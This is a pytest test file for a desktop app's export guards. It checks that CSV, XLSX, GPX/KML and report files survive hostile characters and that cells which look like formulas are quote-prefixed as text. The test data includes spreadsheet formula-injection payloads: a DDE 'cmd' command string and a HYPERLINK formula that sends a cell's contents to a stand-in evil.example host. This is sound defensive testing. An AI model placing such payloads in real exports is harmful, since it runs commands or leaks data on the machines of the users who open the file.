"""Exports never break on what the server returns, and no file the app writes lets a
spreadsheet run a cell as a formula: one guard for the list, the events, the track CSV
and the import failure report, in CSV and in XLSX."""

from __future__ import annotations

import csv
import io
import math
from datetime import UTC, datetime, timedelta
from pathlib import Path
from xml.etree import ElementTree

import gpxpy
import pytest
from openpyxl import load_workbook

from movizor_desktop.api.models import Position
from movizor_desktop.exchange import report_html as rh
from movizor_desktop.exchange.export_table import Table, write_csv, write_table, write_xlsx
from movizor_desktop.exchange.export_track import TrackTexts, fixes_of, write_track
from movizor_desktop.exchange.import_report import report_text, write_report
from movizor_desktop.exchange.import_run import RowResult
from movizor_desktop.exchange.text_safety import (
    clean_line,
    csv_text,
    export_text,
    has_control_characters,
    is_formula_like,
)

T0 = datetime(2026, 11, 26, 6, 0, tzinfo=UTC)
WORD_TITLE = "Иванов\x0bМАН"  # a manual line break pasted from Word
# Every character that breaks openpyxl, XML or UTF-8, in one title.
HOSTILE = (
    "Петров"
    + "".join(chr(c) for c in range(32))
    + "\x7f\x85\u2028\ufffe\uffff"
    + "\ud800"
    + "КамАЗ"
)
FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+7 921 000-00-00",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",  # full-width equals sign
]


def csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


# --- the text rules ------------------------------------------------------------------------


def test_clean_line_turns_each_run_of_controls_into_one_space() -> None:
    assert clean_line(WORD_TITLE) == "Иванов МАН"
    assert clean_line(" \ufeffИванов \r\n\t МАН\x00 ") == "Иванов МАН"
    assert clean_line(HOSTILE) == "Петров КамАЗ"
    assert clean_line("Иванов  И.И.") == "Иванов  И.И."  # typed spaces are the user's
    assert has_control_characters(WORD_TITLE) and not has_control_characters("Иванов МАН")


def test_export_text_keeps_tabs_and_line_breaks_and_drops_the_rest() -> None:
    assert export_text("a\tb\nc\rd") == "a\tb\nc\rd"
    cleaned = export_text(HOSTILE)
    assert cleaned.startswith("Петров") and cleaned.endswith("КамАЗ")
    cleaned.encode("utf-8")  # no lone surrogate left
    ElementTree.fromstring(f"<a>{cleaned}</a>")  # well-formed XML


@pytest.mark.parametrize("text", FORMULAS)
def test_the_formula_guard(text: str) -> None:
    assert is_formula_like(text)
    assert csv_text(text).startswith("'")
    assert not is_formula_like("Иванов") and csv_text("Иванов") == "Иванов"


# --- the list (and every table) as XLSX and CSV ---------------------------------------------


def hostile_table() -> Table:
    return Table(
        ["Телефон", "Name\x0b", "=Header", "Km"],
        [
            ["+7 921 001-02-03", WORD_TITLE, HOSTILE, 1.5],
            *([f"+7 921 001-02-0{i}", text, "x" * 40_000, None] for i, text in enumerate(FORMULAS)),
        ],
        sheet="Абоненты\x0b[1]",
    )


def test_xlsx_of_the_whole_list_is_written_whatever_the_titles_hold(tmp_path) -> None:
    path = write_xlsx(tmp_path / "list.xlsx", hostile_table())
    ws = load_workbook(path).active
    assert ws.title == "Абоненты _1_"
    assert ws["B1"].value == "Name " and ws["C1"].value == "=Header"
    assert ws["B2"].value == "Иванов МАН"
    assert ws["C2"].value.startswith("Петров") and ws["C2"].value.endswith("КамАЗ")
    assert len(ws["C3"].value) == 32767  # Excel's limit for one cell


def test_xlsx_cells_that_look_like_formulas_are_quote_prefixed_text(tmp_path) -> None:
    ws = load_workbook(write_xlsx(tmp_path / "list.xlsx", hostile_table())).active
    for row, text in enumerate(FORMULAS, start=3):
        cell = ws.cell(row=row, column=2)
        expected = text.replace("\r", "\n")  # XML reads a bare CR as a line feed
        assert (cell.value, cell.data_type, cell.quotePrefix) == (expected, "s", True), text
    assert ws["A3"].quotePrefix  # "+7 921 …" is text, not a broken formula
    assert ws["C1"].quotePrefix and not ws["B2"].quotePrefix


def test_csv_of_the_whole_list_guards_every_text_cell(tmp_path) -> None:
    path = write_table(tmp_path / "list.csv", hostile_table())
    rows = csv_cells(path.read_bytes())
    assert rows[0] == ["Телефон", "Name ", "'=Header", "Km"]
    assert rows[1][1] == "Иванов МАН"
    for row, text in zip(rows[2:], FORMULAS, strict=True):
        assert row[1] == "'" + export_text(text), text
        assert row[0].startswith("'+7")


# --- the import failure report -------------------------------------------------------------


def hostile_results() -> list[RowResult]:
    return [
        RowResult(
            line=2 + i,
            raw_phone="+7 921 000-00-0" + str(i),
            phone=None,
            title=text,
            outcome="failed",
            reason=f"«{text}» refused",
        )
        for i, text in enumerate(FORMULAS)
    ] + [
        RowResult(
            line=20,
            raw_phone="=1+1",
            phone=None,
            title=WORD_TITLE,
            outcome="bad",
            reason='=HYPERLINK("x")',
        )
    ]


def test_the_import_report_uses_the_same_guard(tmp_path) -> None:
    rows = csv_cells(report_text(hostile_results(), "ru").encode("utf-8"))
    assert rows[0] == ["Строка", "Телефон", "Имя", "Результат", "Причина"]
    for row, text in zip(rows[1:], FORMULAS, strict=False):
        assert row[1].startswith("'+7"), row
        assert row[2] == "'" + export_text(text), row
    assert rows[-1] == ["20", "'=1+1", "Иванов МАН", "ошибка в строке", '\'=HYPERLINK("x")']
    assert write_report(tmp_path / "r.csv", hostile_results(), "ru") == len(FORMULAS) + 1
    assert csv_cells((tmp_path / "r.csv").read_bytes()) == rows


# --- tracks ------------------------------------------------------------------------------------


def hostile_positions() -> list[Position]:
    good = [
        Position(
            lat=55.75 + i / 100,
            lon=37.6 + i / 100,
            radius=500,
            timestamp=T0 + timedelta(minutes=10 * i),
            place=p,
        )
        for i, p in enumerate((WORD_TITLE, HOSTILE, "<b>&amp;</b>", ""))
    ]
    broken = [
        Position(lat=math.nan, lon=37.6, timestamp=T0),
        Position(lat=55.7, lon=math.inf, timestamp=T0),
        Position(lat=95.0, lon=37.6, timestamp=T0),
        Position(lat=55.7, lon=-200.0, timestamp=T0),
    ]
    return good + broken


@pytest.mark.parametrize("suffix", [".gpx", ".kml", ".csv"])
def test_track_files_are_well_formed_whatever_the_places_hold(tmp_path, suffix) -> None:
    fixes = fixes_of(hostile_positions())
    assert len(fixes) == 4  # not-a-number and off-the-globe coordinates are skipped
    path = write_track(tmp_path / f"t{suffix}", fixes, TrackTexts(name=WORD_TITLE))
    data = path.read_bytes()
    if suffix == ".csv":
        rows = csv_cells(data)
        assert rows[1][4] == "Иванов МАН" and rows[2][4].endswith("КамАЗ")
        return
    root = ElementTree.fromstring(data)  # a strict XML parser: any bad byte raises
    text = "".join(root.itertext())
    assert "Иванов МАН" in text and "КамАЗ" in text
    if suffix == ".gpx":
        parsed = gpxpy.parse(data.decode("utf-8"))
        assert len(parsed.tracks[0].segments[0].points) == 4
        assert parsed.tracks[0].name == "Иванов МАН"


def test_the_printed_report_html_holds_nothing_a_document_cannot() -> None:
    html = rh.list_report("Список\x0b", "", ["Имя"], [[HOSTILE]])
    assert export_text(html) == html and "Петров" in html


def test_writing_csv_of_numbers_and_none_still_works(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "n.csv", Table(["a", "b"], [[1, None], [2.5, -3]]))
    assert csv_cells(path.read_bytes())[1:] == [["1", ""], ["2,5", "-3"]]
